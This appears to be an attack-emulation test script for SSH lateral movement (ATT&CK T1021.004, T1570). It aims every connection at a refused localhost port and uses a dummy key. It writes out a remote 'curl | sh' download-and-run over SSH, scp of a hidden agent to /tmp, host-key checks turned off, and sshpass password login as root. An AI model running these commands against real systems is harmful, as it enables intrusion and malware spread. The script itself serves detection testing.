# techniques: T1021.004 T1570
# Lateral movement over SSH as automated tooling does it: host-key checking disabled, batch mode,
# a stolen key given with -i, a remote download-and-run command; and scp pushing a tool. Targets
# are 127.0.0.1 port 1, so every connection is refused at once. sshpass is used if installed.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH
command -v ssh >/dev/null || exit 0
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nZmFrZQ==\n-----END OPENSSH PRIVATE KEY-----\n' > ./stolen_id_rsa
chmod 600 ./stolen_id_rsa
cp /bin/true ./agent
o="-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=2 -p 1"
ssh $o -i ./stolen_id_rsa root@127.0.0.1 'curl -s http://127.0.0.1:1/a | sh' 2>/dev/null
for h in 127.0.0.1 localhost; do
  ssh $o -i ./stolen_id_rsa admin@$h 'id' 2>/dev/null
done
command -v scp >/dev/null && scp -q -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=2 -P 1 -i ./stolen_id_rsa ./agent root@127.0.0.1:/tmp/.agent 2>/dev/null
command -v sshpass >/dev/null && sshpass -p 'Winter2024!' ssh $o root@127.0.0.1 id 2>/dev/null
rm -f ./stolen_id_rsa ./agent
exit 0
